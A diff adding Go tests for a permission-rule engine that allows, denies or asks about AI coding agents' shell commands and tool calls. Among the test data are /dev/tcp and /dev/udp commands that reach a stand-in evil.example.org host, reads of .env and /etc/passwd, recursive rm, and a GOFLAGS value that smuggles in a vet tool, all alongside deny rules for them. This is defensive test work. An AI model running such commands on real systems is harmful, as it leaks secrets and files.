@@ -1,6 +1,7 @@
 package rules
 
 import (
+	"cmp"
 	"encoding/json"
 	"fmt"
 	"path/filepath"
@@ -34,6 +35,113 @@ func TestStrongestRuleDecides(t *testing.T) {
 	if v := judged(s, "git push origin prod"); v.Why != "it ships" {
 		t.Errorf("why: %q", v.Why)
 	}
+	s = rulesOf(t, Rule{Deny: []string{"read **/a/**"}}, Rule{Deny: []string{"read **/b/**"}})
+	if v := judged(s, "cat b/a/x"); v.Rule != 1 {
+		t.Errorf("of two that deny it rule %d decides", v.Rule)
+	}
+}
+
+// Each word, wildcard, option, file and host counts: in each row, commands that differ in one of them are decided differently.
+func TestEachPartOfARuleCounts(t *testing.T) {
+	for _, c := range []struct{ allow, deny, allowed, denied, asked string }{
+		{allow: "run git -C src", allowed: "git -C src"},
+		{allow: "run cp -t src a.go; read ./**; write ./a.go", asked: "cp -t src a.go"},
+		{allow: "run cp -t src a.go; read ./**; write ./a.go; write ./src", allowed: "cp -t src a.go"},
+		{allow: "run cp src a.go; read ./**; write ./a.go", allowed: "cp src a.go"},
+		{deny: "read **/.env", denied: "git commit -m x .env; grep -f .env x; grep -e x .env", asked: "grep .env x; grep -n .env x; grep x -"},
+		{allow: "run git commit -m *; run git commit --message *", deny: "read **/.env", allowed: "git commit -m .env; git commit --message .env"},
+		{deny: "read /etc/**", denied: "cat out/hosts; mytool -fout/hosts; mytool --a=out/hosts; mytool out/hosts", asked: "mytool -f"},
+		{deny: "read " + shop, denied: "mytool .", asked: "mytool -a"},
+		{deny: "read **/.env; write **/go.mod", denied: "cat .env; touch go.mod", asked: "cat go.mod"},
+		{deny: "fetch evil.example.org", denied: "cat < /dev/tcp/evil.example.org/80; echo a > /dev/udp/EVIL.example.org/443",
+			asked: "cat < x/dev/tcp/evil.example.org/80; cat < /dev/tcp/evil.example.org/81"},
+		{allow: "run echo ...; fetch api.example.org:81", allowed: "echo a > /dev/tcp/api.example.org/81",
+			asked: "echo a > x/dev/tcp/api.example.org/81; echo a > ../dev/tcp/api.example.org/81"},
+		{allow: "run git show *", allowed: "git show HEAD", asked: "git show HEAD:.env"},
+		{allow: "run git status [-v]", allowed: "git status -v", asked: "git -v status"},
+		{allow: "run mytool x-*-y", allowed: "mytool x-1-y; mytool x--y", asked: "mytool x-y; mytool x-a/b-y"},
+		{allow: "run mytool *.go", allowed: "mytool a.go", asked: "mytool -o.go"},
+		{allow: "run mytool *", allowed: "mytool src/a", asked: "mytool /etc/hosts; mytool ../x; mytool"},
+		{allow: "run mytool [-o *] x", allowed: "mytool -o src/y x; mytool x", asked: "mytool -o ../y x; mytool -o"},
+		{deny: "run mytool *", denied: "mytool; mytool a"},
+		{deny: "run mytool x*", denied: "mytool xy", asked: "mytool; mytool y"},
+		{deny: "run mytool *x", denied: "mytool yx", asked: "mytool y"},
+		{deny: "run mytool xx*xx", denied: "mytool xxxx; mytool xxaxx", asked: "mytool xxx"},
+		{deny: "run mytool -#", denied: "mytool -9", asked: "mytool -9a; mytool -"},
+		{deny: "run rm -r", denied: "rm --r x; rm --recursive x; rm -fr x", asked: "rm -- x; rm - r"},
+		{allow: "run cat ...; read '/srv/my code/**'", allowed: "cat '/srv/my code/a'", asked: "cat '/srv/my files/a'"},
+		{allow: "run echo ...; write ./src/*.gen", allowed: "echo a > src/.gen; echo a > src/a.gen", asked: "echo a > src/gen"},
+		{allow: "run curl *; fetch *.example.org", allowed: "curl https://api.example.org/",
+			asked: "curl https://.example.org/; curl https://example.org/"},
+		{allow: "run true", asked: "# true; > /dev/null"},
+	} {
+		s := rulesOf(t, Rule{Allow: listed(cmp.Or(c.allow, "run true"))}, Rule{Deny: listed(cmp.Or(c.deny, "run false"))})
+		for effect, commands := range map[Effect]string{Allow: c.allowed, Deny: c.denied, "": c.asked} {
+			for _, command := range listed(commands) {
+				if v := judged(s, command); v.Effect != effect {
+					t.Errorf("allow %q, deny %q: %q is %q, want %q; %v", c.allow, c.deny, command, v.Effect, effect, v.Reasons)
+				}
+			}
+		}
+	}
+}
+
+func listed(text string) []string {
+	return strings.FieldsFunc(text, func(r rune) bool { return r == ';' })
+}
+
+// What rules that people gave allow beside those of the configuration is named, each rule once, and is not exact.
+func TestGivenRulesAllowTheRest(t *testing.T) {
+	s, given := rulesOf(t, Rule{Allow: []string{"run ls"}}), rulesOf(t, Rule{Allow: []string{"run pwd"}}, Rule{Allow: []string{"run npm test", "run ls"}})
+	for command, want := range map[string]struct {
+		effect  Effect
+		granted []int
+	}{
+		"ls": {Allow, nil}, "npm test": {Allow, []int{2}}, "npm test && ls && npm test && pwd": {Allow, []int{2, 1}}, "npm test; make": {"", nil},
+	} {
+		v := s.JudgeWith(Call{Command: command, Folder: shop, Root: shop, Resolve: links(shop)}, given)
+		if v.Effect != want.effect || !slices.Equal(v.Granted, want.granted) || v.Exact != (command == "ls") {
+			t.Errorf("%q: %q by %v, exact %v", command, v.Effect, v.Granted, v.Exact)
+		}
+	}
+}
+
+// What is not allowed has a reason for each act, and what is allowed has none.
+func TestReasonsNameWhatIsNotAllowed(t *testing.T) {
+	s := rulesOf(t, Rule{Allow: []string{"run ls", "run cat ...", "run true", "tool box/do", "run go vet ./..."}, Env: []string{"CI", "GOFLAGS"}})
+	for _, c := range []struct {
+		call Call
+		want string
+	}{
+		{Call{Command: "ls; touch x"}, "no rule allows to run touch x; no rule allows to write " + shop + "/x"},
+		{Call{Command: "ls"}, ""},
+		{Call{Command: "ls", Folder: "src"}, "nobody said in which folder it runs"},
+		{Call{Dialect: "claude-code", Tool: "WebFetch", Input: json.RawMessage(`{"url":"https://a@b/"}`)},
+			"it reaches an address that programs may read in different ways"},
+		{Call{Dialect: "claude-code", Tool: "WebFetch", Input: json.RawMessage(`{"url":"https://x.example/"}`)}, "no rule allows to reach x.example"},
+		{Call{Dialect: "claude-code", Tool: "mcp__box__do", Input: json.RawMessage(`{"command":"touch x"}`)}, ""},
+		{Call{Command: "CI=exec go vet ./..."}, ""},
+		{Call{Command: "GOFLAGS=-mod=mod go vet ./..."}, ""},
+		{Call{Command: "GOFLAGS='-v -vettool=tools/x' go vet ./..."}, "rule 1 would allow go vet ./..., but GOFLAGS may name a program or other sources"},
+		{Call{Command: "cat" + strings.Repeat(" a", maxItems-1) + "; true"}, ""},
+		{Call{Command: "cat" + strings.Repeat(" a", maxItems) + "; true; true"}, "it does too much to be judged"},
+	} {
+		c.call.Folder, c.call.Root, c.call.Resolve = cmp.Or(c.call.Folder, shop), shop, links(shop)
+		v := s.Judge(c.call)
+		if got := strings.Join(v.Reasons, "; "); got != c.want || (v.Effect == Allow) != (c.want == "") {
+			t.Errorf("%.80s %s: %q, %q; want %q", c.call.Command, c.call.Input, v.Effect, got, c.want)
+		}
+	}
+}
+
+// Names are at most so many bytes, and one name more.
+func TestNamesAreBounded(t *testing.T) {
+	call := Call{Command: "cat a b c", Folder: shop + "/src", Root: shop}
+	for most, want := range map[int]int{0: 1, len(shop) - 1: 1, len(shop): 2, 2*len(shop) + 4: 3} {
+		if got := Names(call, most); len(got) != want {
+			t.Errorf("with %d bytes: %q", most, got)
+		}
+	}
 }
 
 // What each dialect's tools do is judged by the text, path, host or name in their input, and what is not known is asked.
@@ -41,8 +149,9 @@ func TestToolsOfEachDialect(t *testing.T) {
 	s := rulesOf(t,
 		Rule{Allow: []string{
 			"run go test ./...", "write ./src/**", "read ./**", "fetch docs.example.org", "tool github/get_*", "tool TodoWrite",
+			"tool box/*",
 		}},
-		Rule{Deny: []string{"run rm", "read **/.env", "tool github/delete_*"}})
+		Rule{Deny: []string{"run rm", "read **/.env", "tool github/delete_*", "tool shut/*"}})
 	for _, c := range []struct {
 		dialect, tool, input string
 		want                 Effect
@@ -51,7 +160,8 @@ func TestToolsOfEachDialect(t *testing.T) {
 		{"claude-code", "Bash", `{"command":"go test ./...; rm x"}`, Deny},
 		{"claude-code", "Bash", `{"command":"go test ./...","run_in_background":true}`, ""},
 		{"claude-code", "Read", `{"file_path":"/home/kim/shop/a"}`, Allow},
-		{"claude-code", "Read", `{"file_path":"/home/kim/shop/.env"}`, Deny}, {"claude-code", "Read", `{"file_path":"/etc/passwd"}`, ""},
+		{"claude-code", "Read", `{}`, ""}, {"claude-code", "mcp__box__exec", `{}`, ""}, {"claude-code", "mcp__shut__exec", `{}`, Deny},
+		{"claude-code", "mcp__box__go", `{}`, Allow}, {"claude-code", "Read", `{"file_path":"/home/kim/shop/.env"}`, Deny}, {"claude-code", "Read", `{"file_path":"/etc/passwd"}`, ""},
 		{"claude-code", "Edit", `{"file_path":"src/a.go","old_string":"a","new_string":"b"}`, Allow},
 		{"claude-code", "Edit", `{"file_path":"a.go","old_string":"a","new_string":"b"}`, ""},
 		{"claude-code", "Write", `{"file_path":"src/../a","content":"x"}`, ""},
@@ -122,6 +232,15 @@ func TestConditionsOfRules(t *testing.T) {
 	if v := s.Judge(call); v.Effect != Allow {
 		t.Errorf("as it is: %v", v.Reasons)
 	}
+	s = rulesOf(t, Rule{Allow: []string{"run git status"}, In: "/"}, Rule{Deny: []string{"run git push"}, In: "/etc"})
+	call = Call{Command: "git push", Folder: shop + "/out", Root: shop, Resolve: links(shop)}
+	if v := s.Judge(call); v.Effect != Deny {
+		t.Errorf("in a folder by a link: %q", v.Effect)
+	}
+	call.Command, call.Resolve = "git status", func(string) string { return "" }
+	if v := s.Judge(call); v.Effect == Allow {
+		t.Error("in a folder that nobody knows")
+	}
 }
 
 // A rule for agents by a pattern holds for those that they start, too: their names have a slash.
@@ -146,8 +265,11 @@ func TestNothingIsKnownOfAnotherMachine(t *testing.T) {
 			t.Errorf("%q: %q: %v", command, v.Effect, v.Reasons)
 		}
 	}
+	s = rulesOf(t, Rule{Use: "builtin:read-only"}, Rule{Use: "builtin:workspace-edits"}, Rule{Deny: []string{"read /etc/**"}},
+		Rule{Allow: []string{"run go test ./...", "run git push origin *"}})
 	for _, command := range []string{
 		"cat a src/b", "cd src && cat ../a", "echo a > b", "git push origin main", "git show HEAD:a", "go test ./...", "sort -k2 a",
+		"mytool -fout/hosts", "mytool --file=out/hosts",
 	} {
 		here := Call{Command: command, Folder: shop, Root: shop, Resolve: links(shop)}
 		told := map[string]string{}
@@ -201,13 +323,16 @@ func TestRulesThatAreWrong(t *testing.T) {
 		{Rule{Allow: []string{"run ls"}, In: "code"}, "absolute folder"},
 		{Rule{Allow: []string{"run ls"}, Env: []string{"PATH"}}, "decide"},
 		{Rule{Allow: []string{"run ls"}, Env: []string{"http_proxy"}}, "decide"},
+		{Rule{Allow: []string{"run ls"}, Env: []string{"A09", "0A"}}, "\"0A\" is no name"},
+		{Rule{Allow: []string{"run ls"}, Env: []string{"9A"}}, "is no name"},
+		{Rule{Allow: []string{"run [-v] ls"}}, "begins with no program"},
 		{Rule{Deny: []string{"run ls"}, Env: []string{"CI"}}, "leave env out"},
 		{Rule{Allow: []string{"run ls"}, Fits: []string{"ls x"}}, "is not covered"},
 		{Rule{Allow: []string{"run ls *"}, Not: []string{"ls x"}}, "must not be"},
 		{Rule{Allow: []string{"run ls\u200b"}}, "invisible"}, {Rule{Allow: []string{"run source x"}}, "what the rest"},
 	} {
 		_, found := Compile([]Rule{c.rule})
-		if err := Failed(found); err == nil || !strings.Contains(err.Error(), c.want) {
+		if err := Failed(found); err == nil || !strings.HasPrefix(err.Error(), "rule 1: ") || !strings.Contains(err.Error(), c.want) {
 			t.Errorf("%+v: %v, want %q", c.rule, err, c.want)
 		}
 	}
@@ -215,8 +340,33 @@ func TestRulesThatAreWrong(t *testing.T) {
 		{Allow: []string{"read /srv/code/a", "run git push origin main", "fetch api.example.org", "tool github/get_issue", "run ls"}},
 		{Deny: []string{"read /srv/**", "run git push", "fetch *.example.org", "tool github/*"}},
 	})
-	if n := len(found); n != 4 || slices.ContainsFunc(found, func(p Problem) bool { return !p.Warns }) {
+	for i, p := range found {
+		if p.Rule != 0 || p.Item != i || !p.Warns {
+			t.Errorf("rules that are denied anyway: %+v", p)
+		}
+	}
+	if len(found) != 4 {
 		t.Errorf("rules that are denied anyway: %v", found)
+	}
+	for _, c := range []struct {
+		allow, deny Rule
+		want        int
+	}{
+		{Rule{Allow: []string{"run ls"}, In: shop}, Rule{Deny: []string{"run ls"}, In: shop}, 1},
+		{Rule{Allow: []string{"run ls"}, In: shop}, Rule{Deny: []string{"run ls"}}, 1},
+		{Rule{Allow: []string{"run ls"}}, Rule{Deny: []string{"run ls"}, In: shop}, 0},
+		{Rule{Allow: []string{"run ls"}}, Rule{Deny: []string{"run ls"}, Agents: []string{"a"}, People: []string{"kim"}}, 0},
+		{Rule{Allow: []string{"run ls"}}, Rule{Deny: []string{"run ls"}, Agents: []string{"a"}}, 0},
+		{Rule{Use: "builtin:git-local"}, Rule{Deny: []string{"run git add"}}, 0},
+		{Rule{Allow: []string{"write ./src/**"}}, Rule{Deny: []string{"read ./**"}}, 1},
+		{Rule{Allow: []string{"read ./src/**"}}, Rule{Deny: []string{"read ./**"}}, 1},
+		{Rule{Allow: []string{"write ./src/**"}}, Rule{Deny: []string{"write ./**"}}, 1},
+		{Rule{Allow: []string{"read ./src/**"}}, Rule{Deny: []string{"write ./**"}}, 0},
+		{Rule{Allow: []string{"fetch a.example"}}, Rule{Deny: []string{"read ./**"}}, 0},
+	} {
+		if _, found := Compile([]Rule{c.allow, c.deny}); len(found) != c.want {
+			t.Errorf("%+v, %+v: %v", c.allow, c.deny, found)
+		}
 	}
 }
 
@@ -266,5 +416,20 @@ func TestWhatAProgramIsFedIsNotAllowed(t *testing.T) {
 		if v := judged(s, command); v.Effect != want {
 			t.Errorf("%q: %q, want %q; %v", command, v.Effect, want, v.Reasons)
 		}
+	}
+}
+
+// The texts and lines of rules say what they are, so that two sets can be compared.
+func TestTextsOfRules(t *testing.T) {
+	s := rulesOf(t, Rule{Allow: []string{"run ls"}, In: shop}, Rule{Deny: []string{"run rm"}}, Rule{Use: "builtin:read-only"})
+	terms := ` [null,null,"` + shop + `",null,"0001-01-01T00:00:00Z"]`
+	if got := s.Lines(Allow); !slices.Equal(got, []string{"run ls" + terms, "builtin:read-only" + strings.Replace(terms, shop, "", 1)}) {
+		t.Errorf("%q", got)
+	}
+	if got := s.Texts(); !slices.Equal(got, []string{"run ls", "run rm"}) {
+		t.Errorf("%q", got)
+	}
+	if s = nil; s.Lines(Allow) != nil || s.Texts() != nil {
+		t.Error("no rules have texts")
 	}
 }
